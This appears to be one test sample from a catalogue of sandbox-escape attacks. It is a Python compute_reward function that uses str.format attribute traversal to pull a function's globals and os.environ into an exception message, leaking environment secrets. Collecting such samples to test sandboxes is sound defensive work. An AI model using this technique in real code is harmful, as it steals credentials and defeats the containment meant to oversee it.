# attack: str.format walks attributes to a dict with secrets
# group: traversal
# wall: language; alone: empty environment

def compute_reward(x):
    raise ValueError("{0.__globals__}".format(compute_reward) + "{0.__class__.__init__.__globals__[os].environ}".format(np.errstate()))
